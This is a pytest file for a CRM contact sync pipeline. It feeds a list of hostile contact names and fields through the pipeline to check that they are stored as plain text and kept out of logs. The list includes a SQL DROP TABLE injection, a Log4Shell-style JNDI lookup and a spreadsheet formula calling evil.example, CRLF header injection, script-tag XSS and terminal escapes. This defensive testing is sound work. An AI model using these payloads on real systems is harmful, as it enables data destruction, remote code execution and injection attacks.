"""Contacts whose texts try to be something else: SQL, a header, a line of a log, a formula, a page."""

import json

import pytest

from crm_pipelines_tests.fixtures.people import People
from crm_pipelines_tests.fixtures.pipeline import Pipeline
from crm_pipelines_tests.fixtures.sandbox import BrevoSandbox

HOSTILE = [
    "'; DROP TABLE crm_contacts; --",
    '" OR 1=1 --',
    '=HYPERLINK("http://evil.example")',
    "Eve\r\nX-Evil: 1",
    "\x1b[2J\x1b[31mEvil\x07",
    "{{ 7 * 7 }} ${jndi:ldap://evil.example/a} <script>alert(1)</script>",
    "%s %(name)s {0} %00 evil",
    "\u202eevil \u200b\ufeff",
    "Ω" * 1_000_000,
]


def test_hostile_texts_arrive_as_texts_and_get_into_no_log(
    people: People, pipeline: Pipeline, brevo_sandbox: BrevoSandbox, capfd: pytest.CaptureFixture[str]
) -> None:
    for number, name in enumerate(HOSTILE):
        fields = json.dumps({"evil\r\nX-Evil": name[:1000]})
        people.add(email=f"hostile{number}@example.com", name=name, custom_fields=fields)
    run = pipeline.run()
    assert run.counts == {"claimed": len(HOSTILE), "synced": len(HOSTILE)}
    stored = brevo_sandbox.contacts()
    assert len(stored) == len(HOSTILE)
    assert max(len(str(contact["attributes"])) for contact in stored) < 20_000, "what is absurdly long is cut"
    told = "".join(capfd.readouterr())
    assert "RUN_SUCCESS" in told
    assert "evil" not in told.lower()
    assert "\x1b[2J" not in told


@pytest.mark.parametrize("number", ["1e5000", "-1e400"])
def test_a_number_that_python_cannot_hold_takes_no_neighbour_with_it(
    people: People, pipeline: Pipeline, number: str
) -> None:
    people.add(2)
    people.add(email="absurd@example.com", custom_fields=f'{{"n": {number}}}')
    run = pipeline.run()
    assert run.success, run.problem
    assert people.states() == {"synced": 3}
